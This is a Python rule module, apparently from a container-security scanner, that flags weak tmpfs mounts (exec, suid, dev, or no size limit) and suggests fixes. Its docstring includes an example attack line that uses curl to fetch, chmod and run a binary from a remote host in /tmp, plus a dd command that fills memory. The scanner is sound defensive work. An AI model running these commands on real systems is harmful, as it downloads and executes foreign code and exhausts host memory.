"""Weak tmpfs.

A tmpfs is the one place where a container with a read-only root can write, so it is where an intruder's tools land. The
engine mounts it `noexec`, `nosuid` and `nodev`, which leaves little to do with them; the options `exec`, `suid` and `dev`
take that away. A tmpfs also lies in memory: without a `size`, and without a memory limit on the container, writing to it
uses up the memory of the host.

## Attack
    curl -so /tmp/x http://203.0.113.7/x && chmod +x /tmp/x && /tmp/x   # with exec, read-only root or not
    dd if=/dev/zero of=/tmp/fill                                        # without a size or a memory limit

## Bad command
    docker run -d --read-only --memory=256m --tmpfs /tmp:exec,size=64m acme/render:2

## Good command
    docker run -d --read-only --memory=256m --tmpfs /tmp:noexec,nosuid,size=64m acme/render:2

## Bad compose
    services:
      render:
        image: acme/render:2
        read_only: true
        tmpfs:
          - /tmp

## Good compose
    services:
      render:
        image: acme/render:2
        read_only: true
        tmpfs:
          - /tmp:size=64m

## What may break
Programs that unpack and run native code in `/tmp` (JNI libraries, some package managers) fail without `exec`: point them
to a folder of the image (`java.io.tmpdir`, `TMPDIR`). A tmpfs that is full fails with "No space left on device".

## References
- OWASP Docker Security Cheat Sheet, RULE #8
- https://docs.docker.com/engine/storage/tmpfs/
- https://docs.docker.com/reference/compose-file/services/#tmpfs
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from scanner.finding import Confidence, Severity
from scanner.launch import Launch, Tmpfs, Value
from scanner.posture import WEAK, memory_limited, tmpfs_mounts, weakened
from scanner.remedy import Change, Remedy
from scanner.rule import Fault, rule


@rule(severity=Severity.LOW, cwe=732)
def check(launch: Launch) -> Iterator[Fault]:
    for value, where, options, sized in tmpfs_mounts(launch):
        if allowed := weakened(options):
            message = f"the tmpfs at {where} allows {', '.join(allowed)}, which the engine forbids by default"
            yield Fault(value, message, remedy=_remedy(launch, value, options, sized))
        if not sized and not memory_limited(launch):
            # a limit may come in the words that could not be resolved
            confidence = Confidence.LOW if launch.opaque else None
            message = f"the tmpfs at {where} has no size, and no memory limit bounds it"
            yield Fault(value, message, confidence=confidence, remedy=_remedy(launch, value, options, sized))


def _remedy(launch: Launch, value: Value[Any], options: list[str], sized: bool) -> Remedy:
    """All that is weak about a tmpfs mended at once, so that what is said of it twice is one change."""
    tmpfs = value.only
    if isinstance(tmpfs, Tmpfs):
        kept = [option for option in options if option and option not in WEAK]
        text = (f"{tmpfs.target}:{','.join(kept)}" if kept else tmpfs.target).replace("{", "{{")
        if not sized and not memory_limited(launch):
            text += ("," if kept else ":") + "size={tmpfs_size}"
        return Remedy((Change("HostConfig.Tmpfs", text, value),))
    if tmpfs is None:
        return Remedy(unknown="its mount options are written in a way that only a person can change")
    return Remedy((Change("HostConfig.Mounts.TmpfsOptions.SizeBytes", "{tmpfs_size}", value),))
